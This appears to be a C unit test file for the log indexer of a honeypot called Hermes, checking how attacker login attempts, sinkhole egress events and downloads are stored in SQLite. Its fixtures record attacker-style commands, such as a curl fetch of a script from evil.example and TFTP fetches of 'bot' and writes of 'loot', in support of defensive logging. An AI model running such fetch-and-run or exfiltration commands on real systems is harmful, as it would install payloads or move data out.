/* Unit tests for index: a line the database refuses for its data is a bad
 * line, skipped whole, and the index moves past it; a failure of the
 * database itself still stops the catch-up, which then moves nothing. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "index.h"

struct fixture {
	char dir[64], log[128], db[128];
	struct index *ix;
};

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));
	char err[256];

	assert_non_null(f);
	snprintf(f->dir, sizeof(f->dir), "/tmp/hermes-test-index-XXXXXX");
	assert_non_null(mkdtemp(f->dir));
	snprintf(f->log, sizeof(f->log), "%s/events.jsonl", f->dir);
	snprintf(f->db, sizeof(f->db), "%s/index.db", f->dir);
	f->ix = index_open(f->db, err, sizeof(err));
	assert_non_null(f->ix);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;
	char path[192];

	index_close(f->ix);
	unlink(f->log);
	unlink(f->db);
	snprintf(path, sizeof(path), "%s-wal", f->db);
	unlink(path);
	snprintf(path, sizeof(path), "%s-shm", f->db);
	unlink(path);
	rmdir(f->dir);
	free(f);
	return 0;
}

static void append(struct fixture *f, const char *text)
{
	FILE *out = fopen(f->log, "a");

	assert_non_null(out);
	fputs(text, out);
	fclose(out);
}

static long count(struct fixture *f, const char *sql)
{
	sqlite3_stmt *st = NULL;
	long n = -1;

	assert_int_equal(sqlite3_prepare_v2(index_db(f->ix), sql, -1, &st, NULL), SQLITE_OK);
	if (sqlite3_step(st) == SQLITE_ROW)
		n = (long)sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	return n;
}

static void exec(struct fixture *f, const char *sql)
{
	assert_int_equal(sqlite3_exec(index_db(f->ix), sql, NULL, NULL, NULL), SQLITE_OK);
}

static long catch_up(struct fixture *f)
{
	char err[256] = "";

	return index_catch_up(f->ix, f->log, err, sizeof(err));
}

#define SESSION "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define SID     "\"session\": \"" SESSION "\", "
#define SHA     "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
#define LOGIN(user)                                                                                \
	"{\"event\": \"login.failed\", " SID "\"timestamp\": \"2026-11-20T10:00:01Z\","            \
	" \"username\": \"" user                                                                   \
	"\", \"password\": \"x\", \"alert\": {\"type\": \"credential\"}}\n"

/* Refused by SQLite for its data - a constraint, and "malformed JSON" from
 * a JSON function - after the line's first statements ran: nothing of it
 * stays, it is counted, and the next line is indexed. */
static void test_refused_line_skipped_whole(void **state)
{
	struct fixture *f = *state;

	exec(f, "CREATE TRIGGER refuse BEFORE INSERT ON logins WHEN NEW.username = 'boom'"
	        " BEGIN SELECT RAISE(ABORT, 'refused'); END;"
	        "CREATE TRIGGER bad_json BEFORE INSERT ON alerts WHEN NEW.type = 'credential' AND"
	        " (SELECT username FROM logins ORDER BY rowid DESC LIMIT 1) = 'json'"
	        " BEGIN SELECT json('{'); END;");
	append(f, LOGIN("boom") LOGIN("json") LOGIN("root"));
	assert_int_equal(catch_up(f), 1);
	assert_int_equal(index_bad_lines(f->ix), 2);
	assert_int_equal(count(f, "SELECT count(*) FROM logins"), 1);
	assert_int_equal(count(f, "SELECT count(*) FROM alerts"), 1);
	assert_int_equal(count(f, "SELECT attempts FROM sessions"), 1);
	assert_int_equal(count(f, "SELECT alerts FROM sessions"), 1);
	/* Passed for good: the next catch-up reads only what is new. */
	append(f, LOGIN("admin"));
	assert_int_equal(catch_up(f), 1);
	assert_int_equal(count(f, "SELECT attempts FROM sessions"), 2);
	assert_int_equal(index_bad_lines(f->ix), 2);
}

/* Nested past the reader's cap: a bad line before SQLite sees it, though
 * the JSON parser would take it. */
static void test_deep_line_skipped(void **state)
{
	struct fixture *f = *state;
	char line[4096];
	int n = snprintf(line, sizeof(line), "{\"event\": \"session.connect\", " SID "\"x\": ");

	for (int i = 0; i < 40; i++)
		line[n++] = '[';
	for (int i = 0; i < 40; i++)
		line[n++] = ']';
	snprintf(line + n, sizeof(line) - (size_t)n, "}\n");
	append(f, line);
	/* Brackets inside strings are text, not nesting. */
	append(f, "{\"event\": \"session.connect\", " SID
	          "\"x\": \"[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\\\"[[[[[[[[[[\"}\n");
	assert_int_equal(catch_up(f), 1);
	assert_int_equal(index_bad_lines(f->ix), 1);
	assert_int_equal(index_add_line(f->ix, line, strlen(line) - 1), 1);
}

/* Longer than 16 MiB: passed over, not held; lines across the reader's
 * blocks, and a last line still being written, read whole. */
static void test_long_lines(void **state)
{
	struct fixture *f = *state;
	size_t big = (17u << 20), part = 100000;
	char *s = malloc(big + 1);

	assert_non_null(s);
	memset(s, 'a', big);
	s[big] = '\0';
	append(f, LOGIN("root"));
	append(f, "{\"event\": \"session.connect\", " SID "\"pad\": \"");
	append(f, s);
	append(f, "\"}\n" LOGIN("admin"));
	append(f, "{\"event\": \"login.failed\", " SID "\"username\": \"");
	s[part] = '\0';
	append(f, s);
	assert_int_equal(catch_up(f), 2);
	assert_int_equal(index_bad_lines(f->ix), 1);
	append(f, "\"}\n");
	assert_int_equal(catch_up(f), 1);
	assert_int_equal(count(f, "SELECT max(length(username)) FROM logins"), (long)part);
	assert_int_equal(count(f, "SELECT attempts FROM sessions"), 3);
	free(s);
}

/* A table gone is the database's failure, not the line's: the catch-up
 * fails and the offset stays, so the line is read again once it is back. */
static void test_database_failure_is_loud(void **state)
{
	struct fixture *f = *state;
	char err[256];

	append(f, LOGIN("root"));
	exec(f, "DROP TABLE alerts");
	assert_int_equal(catch_up(f), -1);
	assert_int_equal(index_bad_lines(f->ix), 0);
	assert_int_equal(count(f, "SELECT count(*) FROM logins"), 0);

	/* Written nowhere: read-only. */
	index_close(f->ix);
	f->ix = index_open(f->db, err, sizeof(err));
	assert_non_null(f->ix);
	exec(f, "PRAGMA query_only = 1");
	assert_int_equal(catch_up(f), -1);
	exec(f, "PRAGMA query_only = 0");
	assert_int_equal(catch_up(f), 1);
	assert_int_equal(count(f, "SELECT count(*) FROM alerts"), 1);
}

/* A log that has not changed since the last catch-up is not read, and the
 * database not written: an idle indexer would otherwise commit its offset
 * every second (query_only makes any write fail the catch-up). */
static void test_unchanged_log_writes_nothing(void **state)
{
	struct fixture *f = *state;

	append(f, LOGIN("root"));
	assert_int_equal(catch_up(f), 1);
	exec(f, "PRAGMA query_only = 1");
	assert_int_equal(catch_up(f), 0);
	assert_int_equal(catch_up(f), 0);
	/* Something new: it is read, so it tries to write. */
	append(f, LOGIN("admin"));
	assert_int_equal(catch_up(f), -1);
	exec(f, "PRAGMA query_only = 0");
	assert_int_equal(catch_up(f), 1);
	assert_int_equal(count(f, "SELECT attempts FROM sessions"), 2);
}

static void text_is(struct fixture *f, const char *sql, const char *want)
{
	sqlite3_stmt *st = NULL;

	assert_int_equal(sqlite3_prepare_v2(index_db(f->ix), sql, -1, &st, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	const unsigned char *got = sqlite3_column_text(st, 0);
	if (want == NULL)
		assert_null(got);
	else
		assert_string_equal((const char *)got, want);
	sqlite3_finalize(st);
}

/* A line of the sinkhole's box 10.77.0.2 in the session: name, time and
 * the rest of its fields. */
static void append_box(struct fixture *f, const char *name, const char *ts, const char *fields)
{
	char line[2048];

	snprintf(line, sizeof(line),
	         "{\"event\": \"%s\", " SID "\"container_id\": \"c0ffee\", \"box_ip\":"
	         " \"10.77.0.2\", \"timestamp\": \"%s\", %s}\n",
	         name, ts, fields);
	append(f, line);
}

/* The sinkhole's events as the monitor writes them (sinkhole_proc.c): a row
 * each in egress, the columns from the fields that have one, the rest in
 * detail - absent fields absent, arrays arrays, true true. */
static void test_egress_rows(void **state)
{
	struct fixture *f = *state;

	append_box(f, "egress.dns", "2026-12-05T10:00:00Z",
	           "\"server\": \"10.77.0.1\", \"query\": \"Evil.Example\", \"qtype\": \"A\","
	           " \"answer\": \"10.77.0.1\", \"rcode\": 0");
	append_box(f, "egress.dns", "2026-12-05T10:00:01Z",
	           "\"server\": \"10.77.0.1\", \"rcode\": 1, \"bytes\": 7");
	append_box(
	    f, "egress.http", "2026-12-05T10:00:02Z",
	    "\"method\": \"GET\", \"url\": \"https://evil.example/x.sh\","
	    " \"host\": \"evil.example\", \"dst\": \"10.77.0.1\", \"dport\": 443,"
	    " \"sport\": 40100, \"tls\": true, \"sni\": \"evil.example\","
	    " \"headers\": [[\"Host\", \"evil.example\"], [\"User-Agent\", \"curl/8\"]],"
	    " \"user_agent\": \"curl/8\", \"cmdline\": \"curl -sk https://evil.example/x.sh\","
	    " \"fetch\": \"live\", \"status\": 200, \"bytes\": 12, \"sha256\": \"" SHA "\","
	    " \"address\": \"203.0.113.9:443\"");
	append_box(
	    f, "egress.http", "2026-12-05T10:00:03Z",
	    "\"method\": \"GET\", \"url\": \"tftp://10.77.0.1/bot\", \"host\": \"10.77.0.1\","
	    " \"proto\": \"udp\", \"dst\": \"10.77.0.1\", \"dport\": 69, \"sport\": 40200,"
	    " \"headers\": [], \"fetch\": \"off\", \"status\": 404");
	append_box(f, "egress.connect", "2026-12-05T10:00:04Z",
	           "\"proto\": \"tcp\", \"dst\": \"10.77.0.9\", \"dport\": 6667, \"sport\": 40300,"
	           " \"bytes\": 20, \"head\": \"NICK bot\\r\\n\", \"host\": \"irc.example\","
	           " \"sha256\": \"" SHA "\"");
	append_box(f, "egress.connect", "2026-12-05T10:00:05Z",
	           "\"proto\": \"udp\", \"dst\": \"10.77.0.1\", \"dport\": 69, \"sport\": 40400,"
	           " \"tftp\": \"write\", \"url\": \"tftp://10.77.0.1/loot\"");
	append_box(f, "egress.connect", "2026-12-05T10:00:06Z",
	           "\"proto\": \"icmp\", \"dst\": \"8.8.8.8\", \"type\": 8, \"bytes\": 64");
	append_box(f, "egress.limited", "2026-12-05T10:00:07Z",
	           "\"connections_refused\": 3, \"events_dropped\": 0");
	append_box(f, "egress.smtp", "2026-12-05T10:00:08Z",
	           "\"dst\": \"10.77.0.25\", \"dport\": 25, \"helo\": \"bot\","
	           " \"mail_from\": \"a@example\", \"rcpt_to\": [\"b@example\", \"c@example\"],"
	           " \"bytes\": 99, \"subject\": \"hi\"");
	assert_int_equal(catch_up(f), 9);
	assert_int_equal(index_bad_lines(f->ix), 0);
	assert_int_equal(count(f, "SELECT count(*) FROM egress WHERE session = '" SESSION "'"), 9);
	assert_int_equal(count(f, "SELECT count(*) FROM sessions"), 1);

	text_is(f,
	        "SELECT kind || ' ' || proto || ' ' || host || ' ' || dst FROM egress"
	        " WHERE rowid = 1",
	        "dns udp Evil.Example 10.77.0.1");
	text_is(f, "SELECT detail FROM egress WHERE rowid = 1",
	        "{\"qtype\":\"A\",\"answer\":\"10.77.0.1\",\"rcode\":0,"
	        "\"container_id\":\"c0ffee\",\"box_ip\":\"10.77.0.2\"}");
	/* No query, no answer: neither is null in detail, they are not there. */
	text_is(f, "SELECT detail FROM egress WHERE rowid = 2",
	        "{\"rcode\":1,\"bytes\":7,\"container_id\":\"c0ffee\",\"box_ip\":\"10.77.0.2\"}");
	assert_int_equal(count(f, "SELECT host IS NULL FROM egress WHERE rowid = 2"), 1);

	text_is(f,
	        "SELECT kind || ' ' || proto || ' ' || method || ' ' || url || ' ' || host ||"
	        " ' ' || dport || ' ' || status || ' ' || sha256 || ' ' || cmdline"
	        " FROM egress WHERE rowid = 3",
	        "http tcp GET https://evil.example/x.sh evil.example 443 200 " SHA
	        " curl -sk https://evil.example/x.sh");
	text_is(f,
	        "SELECT json_type(detail, '$.tls') || ' ' || json_type(detail, '$.headers') ||"
	        " ' ' || json_extract(detail, '$.headers[1][1]') || ' ' ||"
	        " json_extract(detail, '$.fetch') || ' ' || json_extract(detail, '$.address')"
	        " FROM egress WHERE rowid = 3",
	        "true array curl/8 live 203.0.113.9:443");
	/* TFTP read: HTTP's event, over UDP; not TLS. */
	text_is(f,
	        "SELECT proto || ' ' || url || ' ' || status || ' ' ||"
	        " coalesce(json_type(detail, '$.tls'), 'absent') FROM egress WHERE rowid = 4",
	        "udp tftp://10.77.0.1/bot 404 absent");

	text_is(f,
	        "SELECT proto || ' ' || host || ' ' || dport || ' ' ||"
	        " json_extract(detail, '$.head') || sha256 FROM egress WHERE rowid = 5",
	        "tcp irc.example 6667 NICK bot\r\n" SHA);
	text_is(f,
	        "SELECT json_extract(detail, '$.tftp') || ' ' || url FROM egress WHERE rowid = 6",
	        "write tftp://10.77.0.1/loot");
	text_is(f,
	        "SELECT proto || ' ' || dst || ' ' || json_extract(detail, '$.type')"
	        " FROM egress WHERE rowid = 7",
	        "icmp 8.8.8.8 8");
	text_is(f,
	        "SELECT kind || ' ' || json_extract(detail, '$.connections_refused') FROM egress"
	        " WHERE rowid = 8",
	        "limited 3");
	text_is(f,
	        "SELECT kind || ' ' || dport || ' ' || json_extract(detail, '$.mail_from') || ' '"
	        " || json_extract(detail, '$.rcpt_to[1]') || ' ' || json_type(detail,"
	        " '$.rcpt_to') FROM egress WHERE rowid = 9",
	        "smtp 25 a@example c@example array");
}

/* A field of another type than the monitor writes is still a good line:
 * headers a string stay a string, an event without a session (a box no
 * session owns) is a row without one and makes no session. */
static void test_egress_odd_fields(void **state)
{
	struct fixture *f = *state;

	append(f, "{\"event\": \"egress.http\", \"session\": null, \"url\": \"http://x/\","
	          " \"headers\": \"not an array\", \"tls\": \"yes\"}\n");
	append(f, "{\"event\": \"egress.smtp\", " SID "\"rcpt_to\": \"{\", \"dport\": \"25\"}\n");
	assert_int_equal(catch_up(f), 2);
	assert_int_equal(index_bad_lines(f->ix), 0);
	assert_int_equal(count(f, "SELECT count(*) FROM sessions"), 1);
	text_is(f, "SELECT session FROM egress WHERE rowid = 1", NULL);
	text_is(f, "SELECT detail FROM egress WHERE rowid = 1", "{\"headers\":\"not an array\"}");
	text_is(f, "SELECT json_extract(detail, '$.rcpt_to') FROM egress WHERE rowid = 2", "{");
}

/* file.downloaded: its own table, not the artifacts a session left. */
static void test_downloads(void **state)
{
	struct fixture *f = *state;

	append(f, "{\"event\": \"file.downloaded\", " SID "\"timestamp\": \"2026-12-05T10:00:02Z\","
	          " \"url\": \"https://evil.example/x.sh\", \"sha256\": \"" SHA "\", \"size\": 12,"
	          " \"content_type\": \"text/x-sh\", \"source\": \"live\", \"container_id\":"
	          " \"c0ffee\", \"cmdline\": \"curl -sk https://evil.example/x.sh\"}\n");
	append(f, "{\"event\": \"file.downloaded\", \"session\": null, \"url\":"
	          " \"https://evil.example/x.sh\", \"sha256\": \"" SHA "\", \"size\": 12,"
	          " \"source\": \"cache\", \"container_id\": \"beef\"}\n");
	assert_int_equal(catch_up(f), 2);
	assert_int_equal(count(f, "SELECT count(*) FROM artifacts"), 0);
	text_is(f,
	        "SELECT url || ' ' || sha256 || ' ' || size || ' ' || content_type || ' ' ||"
	        " source || ' ' || container_id || ' ' || cmdline FROM downloads WHERE rowid = 1",
	        "https://evil.example/x.sh " SHA " 12 text/x-sh live c0ffee"
	        " curl -sk https://evil.example/x.sh");
	text_is(f,
	        "SELECT source || coalesce(session, '-') || coalesce(cmdline, '-') FROM downloads"
	        " WHERE rowid = 2",
	        "cache--");
}

/* A database an older Hermes made - no egress, no downloads, its offset
 * past lines it had no rule for - is rebuilt: the tables made, the log
 * read again from its start, nothing counted twice. One of this version
 * is kept as it is. */
static void test_older_database_rebuilt(void **state)
{
	struct fixture *f = *state;
	char err[256];

	append(f, LOGIN("root"));
	append_box(f, "egress.dns", "2026-12-05T10:00:00Z", "\"query\": \"a.example\"");
	assert_int_equal(catch_up(f), 2);
	exec(f, "DROP TABLE egress; DROP TABLE downloads; UPDATE meta SET value = 2"
	        " WHERE key = 'schema'");
	index_close(f->ix);
	f->ix = index_open(f->db, err, sizeof(err));
	assert_non_null(f->ix);
	assert_int_equal(count(f, "SELECT count(*) FROM egress"), 0);
	assert_int_equal(catch_up(f), 2);
	assert_int_equal(count(f, "SELECT count(*) FROM egress"), 1);
	assert_int_equal(count(f, "SELECT count(*) FROM logins"), 1);
	assert_int_equal(count(f, "SELECT value FROM meta WHERE key = 'schema'"), 3);

	index_close(f->ix);
	f->ix = index_open(f->db, err, sizeof(err));
	assert_non_null(f->ix);
	assert_int_equal(catch_up(f), 0);
	assert_int_equal(count(f, "SELECT count(*) FROM egress"), 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(test_refused_line_skipped_whole, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_deep_line_skipped, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_long_lines, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_database_failure_is_loud, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_unchanged_log_writes_nothing, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_egress_rows, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_egress_odd_fields, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_downloads, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_older_database_rebuilt, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
